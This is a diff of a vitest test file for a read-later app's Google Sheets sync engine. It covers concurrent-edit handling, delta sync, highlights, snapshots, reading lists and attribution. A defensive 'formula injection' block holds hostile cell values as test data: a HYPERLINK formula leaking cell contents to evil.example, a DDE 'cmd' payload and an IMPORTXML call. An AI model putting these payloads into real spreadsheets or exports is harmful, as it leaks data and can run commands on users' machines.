@@ -1,10 +1,11 @@
-import { describe, test, expect, beforeEach, afterEach } from 'vitest';
-import { ArticleData } from '@readlater/core';
+import { describe, test, expect, beforeEach, afterEach, vi } from 'vitest';
+import { ArticleContent, ArticleData, Highlight, DEFAULT_LIST_ID } from '@readlater/core';
 import { GoogleSheetsSyncEngine } from './engine.js';
 import { MockGoogleSheetsServer } from '../testing/mock-google-sheets-server.js';
-import { LocalStorageSpreadsheetStorage } from '../spreadsheet/manager.js';
-import { articleToSheetRow } from '../spreadsheet/schema.js';
-import { PwaAuthProvider } from '../auth/pwa-auth.js';
+import { InMemorySpreadsheetStorage, LocalStorageSpreadsheetStorage } from '../spreadsheet/manager.js';
+import { articleToSheetRow, articleContentFileName, highlightToSheetRow, HIGHLIGHT_HEADERS, HIGHLIGHTS_SHEET_TITLE, SCHEMA_VERSION, SPREADSHEET_HEADERS } from '../spreadsheet/schema.js';
+import { AuthenticationRequiredError, PwaAuthProvider } from '../auth/pwa-auth.js';
+import { LibrarySnapshot, SNAPSHOT_FORMAT_VERSION } from './snapshots.js';
 
 // ─── helpers ───
 
@@ -26,6 +27,27 @@ function makeArticle(overrides: Partial<ArticleData> = {}): ArticleData {
   };
 }
 
+function makeHighlight(overrides: Partial<Highlight> = {}): Highlight {
+  return {
+    id: overrides.id || Math.random().toString(36).slice(2),
+    articleUrl: overrides.articleUrl || 'https://example.com/a1',
+    text: overrides.text || 'A quoted passage',
+    context: overrides.context,
+    note: overrides.note,
+    color: overrides.color || 'yellow',
+    createdAt: overrides.createdAt || new Date('2025-06-01').toISOString(),
+    editedAt: overrides.editedAt,
+    deletedAt: overrides.deletedAt,
+  };
+}
+
+function createEngineAuth(): PwaAuthProvider {
+  const authProvider = new PwaAuthProvider({ clientId: 'test', apiKey: 'test' });
+  authProvider.getAuthToken = async () => 'fake-token';
+  authProvider.isAuthenticated = async () => true;
+  return authProvider;
+}
+
 function createEngine(server: MockGoogleSheetsServer): {
   engine: GoogleSheetsSyncEngine;
   spreadsheetId: string;
@@ -33,12 +55,8 @@ function createEngine(server: MockGoogleSheetsServer): {
   const spreadsheetId = server.createSpreadsheet('ReadLater');
   server.setAppDataConfig(spreadsheetId);
 
-  const authProvider = new PwaAuthProvider({ clientId: 'test', apiKey: 'test' });
-  authProvider.getAuthToken = async () => 'fake-token';
-  authProvider.isAuthenticated = async () => true;
-
   const storage = new LocalStorageSpreadsheetStorage();
-  const engine = new GoogleSheetsSyncEngine(authProvider, storage);
+  const engine = new GoogleSheetsSyncEngine(createEngineAuth(), storage);
 
   return { engine, spreadsheetId };
 }
@@ -153,7 +171,7 @@ describe('GoogleSheetsSyncEngine', () => {
   });
 
   describe('BUG: stale row indices after concurrent modification', () => {
-    test('batchUpdateArticles uses fresh row lookup, not stale indices', async () => {
+    test('batchUpdateArticles writes through row anchors, not stale indices', async () => {
       const { engine, spreadsheetId } = createEngine(server);
 
       // Set up: 3 articles in sheet
@@ -166,19 +184,12 @@ describe('GoogleSheetsSyncEngine', () => {
 
       expect(server.getDataRows(spreadsheetId)).toHaveLength(3);
 
-      // Simulate: external device deletes Article A (row 2) BETWEEN the first read
-      // (used for data merging) and the second read (used for fresh row numbers).
-      // The engine does: getAllRows → merge data → invalidateCache → getAllRows → write.
-      // We inject the delete before the SECOND getAllRows call.
-      let readCount = 0;
+      // Simulate: external device deletes Article A (row 2) after the rows were
+      // read and checked, right before the write. Row numbers are stale by then.
       server.onBeforeRequest = (url, method) => {
-        if (url.includes('/values/Sheet1') && method === 'GET') {
-          readCount++;
-          if (readCount === 2) {
-            // Before the fresh re-fetch, simulate external delete of row 2 (Article A)
-            server.simulateExternalDelete(spreadsheetId, 2);
-            server.onBeforeRequest = null;
-          }
+        if (url.includes('values:batchUpdateByDataFilter') && method === 'POST') {
+          server.simulateExternalDelete(spreadsheetId, 2);
+          server.onBeforeRequest = null;
         }
       };
 
@@ -189,13 +200,69 @@ describe('GoogleSheetsSyncEngine', () => {
 
       expect(result[0].success).toBe(true);
 
-      // After fix: Article B should be untouched, Article C should be updated
+      // Article B should be untouched, Article C should be updated
       const rows = server.getDataRows(spreadsheetId);
       const rowB = rows.find(r => r[0] === 'https://example.com/b');
       const rowC = rows.find(r => r[0] === 'https://example.com/c');
 
       expect(rowB?.[1]).toBe('Article B'); // B must NOT be overwritten
       expect(rowC?.[1]).toBe('Updated C'); // C should be updated
+      expect(server.getRowMetadataKeys(spreadsheetId)).toEqual([]);
+    });
+
+    test('batchUpdateArticles retries when rows shift before they are anchored', async () => {
+      const { engine, spreadsheetId } = createEngine(server);
+      for (const letter of ['a', 'b', 'c']) {
+        await engine.saveArticle(makeArticle({ url: `https://example.com/${letter}`, title: `Article ${letter.toUpperCase()}` }));
+      }
+
+      // Article A goes between the read and the anchoring, so C's anchor lands past the last row
+      let anchorRequests = 0;
+      server.onBeforeRequest = (url, method) => {
+        if (url.endsWith(':batchUpdate') && method === 'POST' && ++anchorRequests === 1) {
+          server.simulateExternalDelete(spreadsheetId, 2);
+        }
+      };
+
+      const result = await engine.batchUpdateArticles([
+        { url: 'https://example.com/c', updates: { title: 'Updated C' } }
+      ]);
+
+      expect(result[0].success).toBe(true);
+      // The stray anchor's row is blank grid below the data
+      const rows = server.getDataRows(spreadsheetId).filter(row => row.length > 0);
+      expect(rows.map(row => row.slice(0, 2))).toEqual([
+        ['https://example.com/b', 'Article B'],
+        ['https://example.com/c', 'Updated C'],
+      ]);
+      expect(server.getRowMetadataKeys(spreadsheetId)).toEqual([]);
+    });
+
+    test('updateArticle merges again when another device edits the row first', async () => {
+      const { engine, spreadsheetId } = createEngine(server);
+      await engine.saveArticle(makeArticle({ url: 'https://example.com/a', title: 'Article A' }));
+
+      const revision = SPREADSHEET_HEADERS.indexOf('Revision');
+      const before = server.getRow(spreadsheetId, 2)!;
+      server.onBeforeRequest = (url, method) => {
+        if (url.endsWith(':batchUpdate') && method === 'POST') {
+          const edited = [...before];
+          edited[SPREADSHEET_HEADERS.indexOf('Notes')] = 'Edited elsewhere';
+          edited[revision] = 'other-device';
+          server.simulateExternalUpdate(spreadsheetId, 2, edited);
+          server.onBeforeRequest = null;
+        }
+      };
+
+      await engine.updateArticle('https://example.com/a', { favorite: true });
+
+      const [article] = await engine.getArticles();
+      expect(article.notes).toBe('Edited elsewhere');
+      expect(article.favorite).toBe(true);
+      const written = server.getRow(spreadsheetId, 2)![revision];
+      expect(written).toBeTruthy();
+      expect(written).not.toBe(before[revision]);
+      expect(written).not.toBe('other-device');
     });
 
     test('batchDeleteArticles uses URL-based lookup, not stale row numbers', async () => {
@@ -211,11 +278,11 @@ describe('GoogleSheetsSyncEngine', () => {
       // Inject external append BETWEEN the read and the delete write
       let readDone = false;
       server.onBeforeRequest = (url, method) => {
-        if (url.includes('/values/Sheet1') && method === 'GET') {
+        if (url.includes('/values') && method === 'GET') {
           readDone = true;
         }
         if (readDone && method === 'POST' && url.includes(':batchUpdate') && !url.includes('values')) {
-          // External device inserts a row at the beginning (shifts everything down)
+          // External device appends a row
           server.simulateExternalAppend(spreadsheetId, articleToSheetRow(
             makeArticle({ url: 'https://example.com/x', title: 'External X' })
           ));
@@ -227,13 +294,63 @@ describe('GoogleSheetsSyncEngine', () => {
       const result = await engine.batchDeleteArticles(['https://example.com/b']);
       expect(result[0].success).toBe(true);
 
-      // After fix: B should be deleted, all others should remain
+      // B should be deleted, all others should remain
       const rows = server.getDataRows(spreadsheetId);
       const urls = rows.map(r => r[0]);
       expect(urls).toContain('https://example.com/a');
       expect(urls).toContain('https://example.com/c');
+      expect(urls).toContain('https://example.com/x');
       expect(urls).not.toContain('https://example.com/b');
     });
+
+    test('saveArticles keeps a row another device appended after the read', async () => {
+      const { engine, spreadsheetId } = createEngine(server);
+      await engine.saveArticle(makeArticle({ url: 'https://example.com/a', title: 'Article A' }));
+
+      // The other device's row lands where the next row was when the sheet was read
+      server.onBeforeRequest = (url, method) => {
+        if (url.includes(':append') && method === 'POST') {
+          server.simulateExternalAppend(spreadsheetId, articleToSheetRow(
+            makeArticle({ url: 'https://example.com/x', title: 'External X' })
+          ));
+          server.onBeforeRequest = null;
+        }
+      };
+
+      const results = await engine.saveArticles([
+        makeArticle({ url: 'https://example.com/b', title: 'Article B' }),
+        makeArticle({ url: 'https://example.com/c', title: 'Article C' }),
+      ]);
+
+      expect(results.every(result => result.success)).toBe(true);
+      expect(server.getDataRows(spreadsheetId).map(row => row.slice(0, 2))).toEqual([
+        ['https://example.com/a', 'Article A'],
+        ['https://example.com/x', 'External X'],
+        ['https://example.com/b', 'Article B'],
+        ['https://example.com/c', 'Article C'],
+      ]);
+    });
+
+    test('batchDeleteArticles retries when rows shift before they are anchored', async () => {
+      const { engine, spreadsheetId } = createEngine(server);
+      for (const letter of ['a', 'b', 'c']) {
+        await engine.saveArticle(makeArticle({ url: `https://example.com/${letter}` }));
+      }
+
+      // Article A goes before B's row is anchored, so the anchor lands on C
+      let anchorRequests = 0;
+      server.onBeforeRequest = (url, method) => {
+        if (url.endsWith(':batchUpdate') && method === 'POST' && ++anchorRequests === 1) {
+          server.simulateExternalDelete(spreadsheetId, 2);
+        }
+      };
+
+      const result = await engine.batchDeleteArticles(['https://example.com/b']);
+
+      expect(result[0].success).toBe(true);
+      expect(server.getDataRows(spreadsheetId).map(row => row[0])).toEqual(['https://example.com/c']);
+      expect(server.getRowMetadataKeys(spreadsheetId)).toEqual([]);
+    });
   });
 
   describe('BUG: multi-device sync scenarios', () => {
@@ -321,4 +438,701 @@ describe('GoogleSheetsSyncEngine', () => {
       expect(dupArticles[0].title).toBe('V2'); // last row wins
     });
   });
+
+  describe('delta sync', () => {
+    function trackFullReads(server: MockGoogleSheetsServer): string[] {
+      const fullReads: string[] = [];
+      server.onBeforeRequest = (url, method) => {
+        // Whole-row ranges like 'Sheet1'!A2:O, not single columns like A2:A
+        if (method === 'GET' && /\/values\/[^?]+!A2:[B-Z]/.test(decodeURIComponent(url))) {
+          fullReads.push(url);
+        }
+      };
+      return fullReads;
+    }
+
+    test('getRemoteRevision only changes when the sheet is modified', async () => {
+      const { engine, spreadsheetId } = createEngine(server);
+
+      const first = await engine.getRemoteRevision();
+      await engine.getArticles();
+      const unchanged = await engine.getRemoteRevision();
+      expect(unchanged.version).toBe(first.version);
+
+      server.simulateExternalAppend(spreadsheetId, articleToSheetRow(makeArticle()));
+      const changed = await engine.getRemoteRevision();
+      expect(changed.version).not.toBe(first.version);
+      expect(changed.version).toBe(String(server.getRevision(spreadsheetId).version));
+    });
+
+    test('getArticlesChangedSince returns only rows changed after the checkpoint', async () => {
+      const { engine, spreadsheetId } = createEngine(server);
+      const checkpoint = '2025-06-15T00:00:00.000Z';
+
+      for (const article of [
+        makeArticle({ url: 'https://example.com/old', timestamp: '2025-06-01T00:00:00.000Z' }),
+        makeArticle({ url: 'https://example.com/new', timestamp: '2025-06-20T00:00:00.000Z' }),
+        makeArticle({
+          url: 'https://example.com/edited',
+          timestamp: '2025-06-01T00:00:00.000Z',
+          editedAt: '2025-06-16T00:00:00.000Z',
+        }),
+        makeArticle({
+          url: 'https://example.com/deleted',
+          timestamp: '2025-06-01T00:00:00.000Z',
+          deletedAt: '2025-06-17T00:00:00.000Z',
+        }),
+      ]) {
+        server.simulateExternalAppend(spreadsheetId, articleToSheetRow(article));
+      }
+
+      const fullReads = trackFullReads(server);
+      const changed = await engine.getArticlesChangedSince(checkpoint);
+
+      expect(changed.map(a => a.url).sort()).toEqual([
+        'https://example.com/deleted',
+        'https://example.com/edited',
+        'https://example.com/new',
+      ]);
+      expect(fullReads).toHaveLength(0);
+    });
+
+    test('getArticlesChangedSince returns nothing when no rows changed', async () => {
+      const { engine, spreadsheetId } = createEngine(server);
+      server.simulateExternalAppend(
+        spreadsheetId,
+        articleToSheetRow(makeArticle({ timestamp: '2025-06-01T00:00:00.000Z' }))
+      );
+
+      const changed = await engine.getArticlesChangedSince('2025-07-01T00:00:00.000Z');
+      expect(changed).toEqual([]);
+    });
+
+    test('getArticlesChangedSince falls back to a full read when rows shift mid-read', async () => {
+      const { engine, spreadsheetId } = createEngine(server);
+      server.simulateExternalAppend(spreadsheetId, articleToSheetRow(
+        makeArticle({ url: 'https://example.com/first', timestamp: '2025-06-01T00:00:00.000Z' })
+      ));
+      server.simulateExternalAppend(spreadsheetId, articleToSheetRow(
+        makeArticle({ url: 'https://example.com/changed', timestamp: '2025-06-20T00:00:00.000Z' })
+      ));
+
+      // Another device deletes the first row after the column read but before the row read
+      server.onBeforeRequest = (url) => {
+        if (url.includes('values:batchGet') && url.includes('majorDimension=ROWS')) {
+          server.simulateExternalDelete(spreadsheetId, 2);
+          server.onBeforeRequest = null;
+        }
+      };
+
+      const changed = await engine.getArticlesChangedSince('2025-06-15T00:00:00.000Z');
+      expect(changed.map(a => a.url)).toContain('https://example.com/changed');
+    });
+
+    test('batch writes look up rows without downloading the whole sheet', async () => {
+      const { engine, spreadsheetId } = createEngine(server);
+      server.simulateExternalAppend(spreadsheetId, articleToSheetRow(
+        makeArticle({ url: 'https://example.com/existing', title: 'Old' })
+      ));
+
+      const fullReads = trackFullReads(server);
+      await engine.saveArticles([makeArticle({ url: 'https://example.com/added' })]);
+      await engine.batchUpdateArticles([{ url: 'https://example.com/existing', updates: { title: 'New' } }]);
+      await engine.batchDeleteArticles(['https://example.com/added']);
+
+      expect(fullReads).toHaveLength(0);
+      const rows = server.getDataRows(spreadsheetId);
+      expect(rows).toHaveLength(1);
+      expect(rows[0][1]).toBe('New');
+    });
+  });
+
+  describe('highlights', () => {
+    test('saveHighlights creates the Highlights tab on first use', async () => {
+      const { engine, spreadsheetId } = createEngine(server);
+      expect(server.getTabRows(spreadsheetId, HIGHLIGHTS_SHEET_TITLE)).toBeUndefined();
+
+      const results = await engine.saveHighlights([makeHighlight({ id: 'h1', note: 'Worth rereading' })]);
+
+      expect(results).toEqual([{ success: true, articleUrl: 'https://example.com/a1' }]);
+      const rows = server.getTabRows(spreadsheetId, HIGHLIGHTS_SHEET_TITLE)!;
+      expect(rows).toHaveLength(1);
+      expect(rows[0][0]).toBe('h1');
+      expect(rows[0][4]).toBe('Worth rereading');
+      // Articles stay untouched in Sheet1
+      expect(server.getDataRows(spreadsheetId)).toHaveLength(0);
+    });
+
+    test('saveHighlights updates existing rows by ID instead of appending', async () => {
+      const { engine, spreadsheetId } = createEngine(server);
+      server.addTab(spreadsheetId, HIGHLIGHTS_SHEET_TITLE, HIGHLIGHT_HEADERS, [
+        highlightToSheetRow(makeHighlight({ id: 'h1' })),
+        highlightToSheetRow(makeHighlight({ id: 'h2' })),
+      ]);
+
+      await engine.saveHighlights([
+        makeHighlight({ id: 'h2', color: 'blue', editedAt: '2025-06-02T00:00:00.000Z' }),
+        makeHighlight({ id: 'h3' }),
+      ]);
+
+      const rows = server.getTabRows(spreadsheetId, HIGHLIGHTS_SHEET_TITLE)!;
+      expect(rows.map(row => row[0])).toEqual(['h1', 'h2', 'h3']);
+      expect(rows[1][5]).toBe('blue');
+    });
+
+    test('saveHighlights keeps highlights another device appends at the same time', async () => {
+      const { engine, spreadsheetId } = createEngine(server);
+      server.addTab(spreadsheetId, HIGHLIGHTS_SHEET_TITLE, HIGHLIGHT_HEADERS, [
+        highlightToSheetRow(makeHighlight({ id: 'h1' })),
+      ]);
+      server.onBeforeRequest = (url, method) => {
+        if (url.includes(':append') && method === 'POST') {
+          server.simulateExternalAppend(spreadsheetId, highlightToSheetRow(makeHighlight({ id: 'h-other' })), HIGHLIGHTS_SHEET_TITLE);
+          server.onBeforeRequest = null;
+        }
+      };
+
+      await engine.saveHighlights([makeHighlight({ id: 'h2' })]);
+
+      const rows = server.getTabRows(spreadsheetId, HIGHLIGHTS_SHEET_TITLE)!;
+      expect(rows.map(row => row[0])).toEqual(['h1', 'h-other', 'h2']);
+    });
+
+    test('saveHighlights finds a highlight again when rows above it were removed', async () => {
+      const { engine, spreadsheetId } = createEngine(server);
+      server.addTab(spreadsheetId, HIGHLIGHTS_SHEET_TITLE, HIGHLIGHT_HEADERS, [
+        highlightToSheetRow(makeHighlight({ id: 'h1' })),
+        highlightToSheetRow(makeHighlight({ id: 'h2' })),
+        highlightToSheetRow(makeHighlight({ id: 'h3' })),
+      ]);
+      // Removed by hand after the read, before the checked write
+      server.onBeforeRequest = (url, method) => {
+        if (url.endsWith(':batchUpdate') && method === 'POST') {
+          server.simulateExternalDelete(spreadsheetId, 2, HIGHLIGHTS_SHEET_TITLE);
+          server.onBeforeRequest = null;
+        }
+      };
+
+      const results = await engine.saveHighlights([makeHighlight({ id: 'h2', color: 'blue' })]);
+
+      expect(results[0].success).toBe(true);
+      const rows = server.getTabRows(spreadsheetId, HIGHLIGHTS_SHEET_TITLE)!;
+      expect(rows.map(row => [row[0], row[5]])).toEqual([['h2', 'blue'], ['h3', 'yellow']]);
+    });
+
+    test('getHighlights skips invalid rows and keeps the last duplicate', async () => {
+      const { engine, spreadsheetId } = createEngine(server);
+      server.addTab(spreadsheetId, HIGHLIGHTS_SHEET_TITLE, HIGHLIGHT_HEADERS, [
+        highlightToSheetRow(makeHighlight({ id: 'h1', note: 'first' })),
+        ['h-broken', 'https://example.com/a1', '', '', '', 'yellow', '2025-06-01T00:00:00.000Z'],
+        highlightToSheetRow(makeHighlight({ id: 'h1', note: 'second' })),
+      ]);
+
+      const highlights = await engine.getHighlights();
+
+      expect(highlights).toHaveLength(1);
+      expect(highlights[0].note).toBe('second');
+    });
+
+    test('getHighlights keeps soft deletions and falls back to yellow for unknown colors', async () => {
+      const { engine, spreadsheetId } = createEngine(server);
+      const recolored = highlightToSheetRow(makeHighlight({ id: 'h2' }));
+      recolored[5] = 'orange';
+      server.addTab(spreadsheetId, HIGHLIGHTS_SHEET_TITLE, HIGHLIGHT_HEADERS, [
+        highlightToSheetRow(makeHighlight({ id: 'h1', deletedAt: '2025-06-03T00:00:00.000Z' })),
+        recolored,
+      ]);
+
+      const highlights = await engine.getHighlights();
+
+      expect(highlights.find(h => h.id === 'h1')?.deletedAt).toBe('2025-06-03T00:00:00.000Z');
+      expect(highlights.find(h => h.id === 'h2')?.color).toBe('yellow');
+    });
+  });
+
+  describe('article content', () => {
+    function makeContent(overrides: Partial<ArticleContent> = {}): ArticleContent {
+      return {
+        url: 'https://example.com/a1',
+        title: 'Test Article',
+        html: '<p>Body text</p>',
+        text: 'Body text',
+        source: 'extension',
+        capturedAt: new Date('2025-06-01').toISOString(),
+        ...overrides,
+      };
+    }
+
+    test('saveArticleContent stores one appData file per article and getArticleContent reads it back', async () => {
+      const { engine } = createEngine(server);
+
+      const result = await engine.saveArticleContent(makeContent());
+
+      expect(result.success).toBe(true);
+      expect(server.getAppDataFile(await articleContentFileName('https://example.com/a1'))).toBeDefined();
+      expect(await engine.getArticleContent('https://example.com/a1')).toMatchObject({ title: 'Test Article', html: '<p>Body text</p>' });
+      expect(await engine.getArticleContent('https://example.com/missing')).toBeNull();
+    });
+
+    test('saveArticleContent replaces earlier content without touching the spreadsheet config', async () => {
+      const { engine, spreadsheetId } = createEngine(server);
+
+      await engine.saveArticleContent(makeContent());
+      await engine.saveArticleContent(makeContent({ html: '<p>Updated</p>' }));
+
+      expect((await engine.getArticleContent('https://example.com/a1'))?.html).toBe('<p>Updated</p>');
+      expect(server.getAppDataFile('readlater.config.json')?.content).toBe(JSON.stringify({ spreadsheetId }));
+
+      // The config is still found after content files were added
+      await engine.saveArticle(makeArticle({ url: 'https://example.com/a1' }));
+      expect(server.getDataRows(spreadsheetId)).toHaveLength(1);
+    });
+  });
+
+  describe('library snapshots', () => {
+    const DAY_MS = 24 * 60 * 60 * 1000;
+
+    function makeSnapshot(createdAt: number, listId: string = DEFAULT_LIST_ID): LibrarySnapshot {
+      return {
+        version: SNAPSHOT_FORMAT_VERSION,
+        listId,
+        createdAt: new Date(createdAt).toISOString(),
+        articles: [makeArticle({ url: 'https://example.com/a1', title: 'Backed up', deletedAt: '2025-06-02T00:00:00.000Z' })],
+        highlights: [makeHighlight({ id: 'h1' })],
+      };
+    }
+
+    test('saveLibrarySnapshot stores a gzipped file that getLibrarySnapshot reads back', async () => {
+      const { engine } = createEngine(server);
+      const snapshot = makeSnapshot(Date.now());
+
+      const info = await engine.saveLibrarySnapshot(snapshot);
+
+      const stored = Array.from(server.getAppDataFiles()).find(file => file.name.startsWith('readlater-snapshot-'))!;
+      expect(Array.from(stored.bytes.slice(0, 2))).toEqual([0x1f, 0x8b]);
+      expect(await engine.listLibrarySnapshots()).toEqual([info]);
+      expect(await engine.getLibrarySnapshot(info.id)).toEqual(snapshot);
+    });
+
+    test('saveLibrarySnapshot prunes snapshots outside the retention policy', async () => {
+      const { engine } = createEngine(server);
+      const now = Date.now();
+
+      // Two snapshots a day over three days
+      for (const daysAgo of [2.5, 2, 1.5, 1, 0.5]) {
+        await engine.saveLibrarySnapshot(makeSnapshot(now - daysAgo * DAY_MS), { keepLatest: 1, keepDaily: 3, keepWeekly: 0 });
+      }
+      await engine.saveLibrarySnapshot(makeSnapshot(now), { keepLatest: 1, keepDaily: 3, keepWeekly: 0 });
+
+      const remaining = (await engine.listLibrarySnapshots()).map(info => (now - info.createdAt) / DAY_MS);
+      expect(remaining).toEqual([0, 1, 2]);
+    });
+
+    test('listLibrarySnapshots only returns snapshots of the engine\'s own list', async () => {
+      const { engine } = createEngine(server);
+      const teamEngine = new GoogleSheetsSyncEngine(createEngineAuth(), new LocalStorageSpreadsheetStorage(), undefined, 'default-team');
+
+      await engine.saveLibrarySnapshot(makeSnapshot(Date.now()));
+      await teamEngine.saveLibrarySnapshot(makeSnapshot(Date.now(), 'default-team'));
+
+      expect(await engine.listLibrarySnapshots()).toHaveLength(1);
+      expect((await teamEngine.listLibrarySnapshots())[0].listId).toBe('default-team');
+    });
+  });
+
+  describe('reading lists', () => {
+    function createListEngine(listId: string): GoogleSheetsSyncEngine {
+      const authProvider = new PwaAuthProvider({ clientId: 'test', apiKey: 'test' });
+      authProvider.getAuthToken = async () => 'fake-token';
+      return new GoogleSheetsSyncEngine(authProvider, new LocalStorageSpreadsheetStorage(), undefined, listId);
+    }
+
+    test('getLists turns a single-spreadsheet config into the default list', async () => {
+      const { engine, spreadsheetId } = createEngine(server);
+
+      const lists = await engine.getLists();
+
+      expect(lists).toEqual([{ id: DEFAULT_LIST_ID, name: 'My List', spreadsheetId }]);
+    });
+
+    test('createList adds a list with its own spreadsheet that a list engine writes to', async () => {
+      const { engine, spreadsheetId } = createEngine(server);
+
+      const team = await engine.createList('Team reading');
+      await createListEngine(team.id).saveArticle(makeArticle({ url: 'https://example.com/team' }));
+      await engine.saveArticle(makeArticle({ url: 'https://example.com/personal' }));
+
+      expect(team.spreadsheetId).not.toBe(spreadsheetId);
+      expect(server.getDataRows(team.spreadsheetId).map(row => row[0])).toEqual(['https://example.com/team']);
+      expect(server.getDataRows(spreadsheetId).map(row => row[0])).toEqual(['https://example.com/personal']);
+
+      // Older clients still find the default spreadsheet at the top level
+      const config = JSON.parse(server.getAppDataFile('readlater.config.json')!.content);
+      expect(config.spreadsheetId).toBe(spreadsheetId);
+      expect(await createListEngine(team.id).getLists()).toHaveLength(2);
+    });
+
+    test('renameList and removeList update the shared config', async () => {
+      const { engine } = createEngine(server);
+      const team = await engine.createList('Team');
+
+      await engine.renameList(DEFAULT_LIST_ID, 'Personal');
+      await engine.renameList(team.id, 'Team reading');
+      expect((await engine.getLists()).map(list => list.name)).toEqual(['Personal', 'Team reading']);
+
+      await engine.removeList(team.id);
+      expect((await engine.getLists()).map(list => list.id)).toEqual([DEFAULT_LIST_ID]);
+      await expect(engine.removeList(DEFAULT_LIST_ID)).rejects.toThrow('cannot be removed');
+    });
+
+    test('an engine for an unknown list does not fall back to the default spreadsheet', async () => {
+      const { spreadsheetId } = createEngine(server);
+
+      const result = await createListEngine('missing').saveArticle(makeArticle());
+
+      expect(result.success).toBe(false);
+      expect(server.getDataRows(spreadsheetId)).toHaveLength(0);
+    });
+  });
+
+  describe('attribution', () => {
+    test('saveArticle records the signed-in account as adder and editor', async () => {
+      const { engine } = createEngine(server);
+
+      await engine.saveArticle(makeArticle({ url: 'https://example.com/by' }));
+
+      const [article] = await engine.getArticles();
+      expect(article.addedBy).toBe('reader@example.com');
+      expect(article.editedBy).toBe('reader@example.com');
+    });
+
+    test('saving an existing URL keeps who added it', async () => {
+      const { engine } = createEngine(server);
+      await engine.saveArticle(makeArticle({ url: 'https://example.com/shared' }));
+
+      // A teammate saves the same page from their browser
+      server.userEmail = 'teammate@example.com';
+      const teammateEngine = new GoogleSheetsSyncEngine(createEngineAuth(), new LocalStorageSpreadsheetStorage());
+      await teammateEngine.saveArticle(makeArticle({ url: 'https://example.com/shared', notes: 'Worth a read' }));
+      await teammateEngine.saveArticles([makeArticle({ url: 'https://example.com/shared', notes: 'Updated' })]);
+
+      const [article] = await teammateEngine.getArticles();
+      expect(article.addedBy).toBe('reader@example.com');
+      expect(article.editedBy).toBe('teammate@example.com');
+    });
+
+    test('updateArticle records the editor', async () => {
+      const { engine } = createEngine(server);
+      await engine.saveArticle(makeArticle({ url: 'https://example.com/edit' }));
+
+      server.userEmail = 'teammate@example.com';
+      await new GoogleSheetsSyncEngine(createEngineAuth(), new LocalStorageSpreadsheetStorage())
+        .updateArticle('https://example.com/edit', { favorite: true });
+
+      const [article] = await engine.getArticles();
+      expect(article.addedBy).toBe('reader@example.com');
+      expect(article.editedBy).toBe('teammate@example.com');
+    });
+
+    test('spreadsheets without the attribution columns get their headers added', async () => {
+      const { engine, spreadsheetId } = createEngine(server);
+      server.getRow(spreadsheetId, 1)!.splice(SPREADSHEET_HEADERS.indexOf('Added By'));
+
+      await engine.saveArticle(makeArticle({ url: 'https://example.com/old-sheet' }));
+
+      expect(server.getRow(spreadsheetId, 1)).toEqual([...SPREADSHEET_HEADERS]);
+      expect((await engine.getArticles())[0].addedBy).toBe('reader@example.com');
+    });
+  });
+
+  describe('formula injection', () => {
+    const HOSTILE_TITLES = [
+      '=HYPERLINK("https://evil.example/?leak="&B2, "Open")',
+      '+1+cmd|\' /C calc\'!A0',
+      '-2+3',
+      '@SUM(A1:A9)',
+    ];
+
+    test('hostile values are stored as text and read back unchanged', async () => {
+      const { engine, spreadsheetId } = createEngine(server);
+      const articles = HOSTILE_TITLES.map((title, i) => makeArticle({
+        url: `https://example.com/hostile-${i}`,
+        title,
+        notes: '=IMPORTXML("https://evil.example", "//a")',
+      }));
+
+      await engine.saveArticles(articles);
+
+      // The escaped write keeps them from becoming formulas; Sheets drops the apostrophe
+      const titleColumn = SPREADSHEET_HEADERS.indexOf('Title');
+      expect(server.getDataRows(spreadsheetId).map(row => row[titleColumn])).toEqual(HOSTILE_TITLES);
+
+      const fetched = await engine.getArticles();
+      expect(fetched.map(article => article.title)).toEqual(HOSTILE_TITLES);
+      expect(fetched[0].notes).toBe('=IMPORTXML("https://evil.example", "//a")');
+    });
+
+    test('a leading apostrophe survives the round trip', async () => {
+      const { engine, spreadsheetId } = createEngine(server);
+      const titles = ["'-80s mix", "''x", "'Tis the season"];
+
+      await engine.saveArticles(titles.map((title, i) => makeArticle({ url: `https://example.com/quoted-${i}`, title })));
+
+      const titleColumn = SPREADSHEET_HEADERS.indexOf('Title');
+      expect(server.getDataRows(spreadsheetId).map(row => row[titleColumn])).toEqual(titles);
+      expect((await engine.getArticles()).map(article => article.title)).toEqual(titles);
+    });
+
+    test('highlight text is escaped the same way', async () => {
+      const { engine } = createEngine(server);
+      const highlight = makeHighlight({ id: 'h-formula', text: '=1+1', note: '@mention' });
+
+      await engine.saveHighlights([highlight]);
+
+      const [fetched] = await engine.getHighlights();
+      expect(fetched.text).toBe('=1+1');
+      expect(fetched.note).toBe('@mention');
+    });
+  });
+
+  describe('spreadsheet health', () => {
+    const HEADERS_WITH_DRIFT = SPREADSHEET_HEADERS.map(header => header === 'Notes' ? ' notes' : header);
+    const NOTES = SPREADSHEET_HEADERS.indexOf('Notes');
+    const TIMESTAMP = SPREADSHEET_HEADERS.indexOf('Timestamp');
+
+    function createUnhealthySheet() {
+      const rows = [
+        articleToSheetRow({ ...makeArticle({ url: 'https://example.com/dup', title: 'Old title', notes: 'Kept note', timestamp: '2025-06-01T00:00:00.000Z' }), addedBy: 'first@example.com' }),
+        articleToSheetRow(makeArticle({ url: 'https://example.com/fine', title: 'Fine' })),
+        articleToSheetRow(makeArticle({ url: 'https://example.com/dup', title: 'New title', favorite: true, timestamp: '2025-06-02T00:00:00.000Z', editedAt: '2025-06-03T00:00:00.000Z' })),
+        ['', 'Row without URL'],
+        articleToSheetRow(makeArticle({ url: 'https://example.com/untitled' })).map((cell, i) => i === 1 ? '' : cell),
+        articleToSheetRow(makeArticle({ url: 'https://example.com/dated', title: 'Dated', timestamp: '2025-06-01' })),
+        articleToSheetRow(makeArticle({ url: 'https://example.com/formula', title: 'Formula' })),
+      ];
+      const spreadsheetId = server.createSpreadsheet('ReadLater', rows, HEADERS_WITH_DRIFT);
+      server.setAppDataConfig(spreadsheetId);
+      server.simulateFormula(spreadsheetId, 8, NOTES, '=B8&" notes"', 'Formula notes');
+      const engine = new GoogleSheetsSyncEngine(createEngineAuth(), new LocalStorageSpreadsheetStorage());
+      return { engine, spreadsheetId };
+    }
+
+    test('diagnose reports every problem without changing the sheet', async () => {
+      const { engine, spreadsheetId } = createUnhealthySheet();
+      const before = server.getRevision(spreadsheetId).version;
+
+      const diagnosis = await engine.diagnose();
+
+      expect(diagnosis.rowCount).toBe(7);
+      expect(diagnosis.headers).toEqual({ missing: [], misnamed: [{ position: NOTES, found: ' notes', expected: 'Notes' }], duplicated: [] });
